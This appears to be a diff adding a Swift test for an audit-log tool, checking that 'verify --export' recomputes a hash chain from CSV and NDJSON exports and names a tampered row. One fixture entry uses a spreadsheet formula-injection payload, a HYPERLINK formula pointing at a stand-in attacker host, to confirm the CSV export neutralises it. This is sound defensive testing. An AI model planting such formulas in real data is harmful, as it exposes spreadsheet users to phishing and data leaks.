@@ -72,6 +72,41 @@ struct AuditCommandTests {
         #expect(ndjson.status == 0 && ndjson.output.isEmpty)
     }
 
+    @Test("verify --export recomputes the chain from a CSV or NDJSON file, formula-like cells included, and names an edited row")
+    func verifyExport() throws {
+        // setup: six decisions, one entry whose name a spreadsheet would run, and full exports in both formats
+        let directory = try TemporaryDirectory()
+        defer { directory.remove() }
+        let path = try decisions(6, in: directory)
+        try ModerationStore(path: path).appendAudit(AuditEntry(
+            recordedAt: Date(timeIntervalSince1970: 1_790_900_000), actorId: nil, actorUsername: "=HYPERLINK(\"http://evil.example/?x\",\"Click\")",
+            action: "session.signIn", targetKind: "session", targetId: "", targetSlug: "", targetName: "", statusBefore: "", statusAfter: "",
+            reason: "", outcome: "failed (wrong credentials)", backendStatus: nil, requestId: "r7", clientAddress: "192.0.2.7",
+            userAgent: "'=already quoted", itemCreatedAt: nil, actionId: nil))
+        let csv = directory.path("all.csv")
+        let ndjson = directory.path("all.ndjson")
+        #expect(try console("audit", "export", "--database", path, "--format", "csv", "--output", csv).status == 0)
+        #expect(try console("audit", "export", "--database", path, "--format", "ndjson", "--output", ndjson).status == 0)
+        let head = try console("audit", "verify", "--database", path).output
+        let csvText = try String(contentsOfFile: csv, encoding: .utf8)
+        #expect(csvText.contains(",\"'=HYPERLINK(\"\"http"), "the CSV cell is neutralised")
+
+        // act
+        let fromCSV = try console("audit", "verify", "--export", csv)
+        let fromNDJSON = try console("audit", "verify", "--export", ndjson)
+        try csvText.replacingOccurrences(of: "Nº 3", with: "Nº 9").write(toFile: csv, atomically: true, encoding: .utf8)
+        let edited = try console("audit", "verify", "--export", csv)
+
+        // check: the head is the database's own, from the first export's 8 entries (the second was recorded after it)
+        #expect(fromCSV.status == 0, "\(fromCSV.output)\(fromCSV.errorOutput)")
+        #expect(fromCSV.output.hasPrefix("OK, 8 entries, head "))
+        #expect(fromNDJSON.status == 0, "\(fromNDJSON.output)\(fromNDJSON.errorOutput)")
+        #expect(fromNDJSON.output.hasPrefix("OK, 9 entries, head "))
+        #expect(head.hasSuffix(String(fromNDJSON.output.suffix(65))), "the same head as the database's")
+        #expect(edited.status == 1)
+        #expect(edited.output == "BROKEN at entry 3: its contents do not match its hash (the entry was changed)\n")
+    }
+
     @Test("summary prints the decisions of a range as CSV")
     func summary() throws {
         let directory = try TemporaryDirectory()
